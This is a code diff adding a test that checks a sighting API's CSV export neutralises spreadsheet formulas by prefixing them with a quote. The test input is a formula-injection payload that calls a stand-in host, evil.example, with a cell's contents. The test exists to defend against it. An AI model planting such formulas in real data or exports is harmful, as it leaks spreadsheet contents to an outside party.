@@ -164,3 +164,20 @@ def test_exports_stay_json_even_with_numbers_stored_before_the_checks(world: Wor
     feature = _strict_json(response.text)["features"][0]
     assert feature["properties"]["best_time"] is None and feature["properties"]["box"] == [None, 0.0, 10.0, None]
     assert not math.isnan(feature["geometry"]["coordinates"][1])
+
+
+def test_a_formula_in_a_device_source_is_text_in_the_csv_export(world: World, tmp_path: Path) -> None:
+    import csv
+    import io
+
+    http, _, device, _ = world
+    record, files = _sighting(tmp_path)
+    record["source"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    stored = http.post("/api/v1/sightings", data={"metadata": json.dumps(record)}, files=files,
+                       headers={**device, "Idempotency-Key": record["sighting_id"]})  # fmt: skip
+    assert stored.status_code == 201
+    admin = http.post("/api/v1/auth/token", data={"username": "admin", "password": PASSWORD}).json()
+    response = http.get("/api/v1/exports/sightings.csv", headers={"Authorization": f"Bearer {admin['access_token']}"})
+    (row,) = csv.DictReader(io.StringIO(response.text))
+    assert row["source"] == "'" + record["source"]
+    assert row["score"] == str(record["score"])  # numbers are left alone
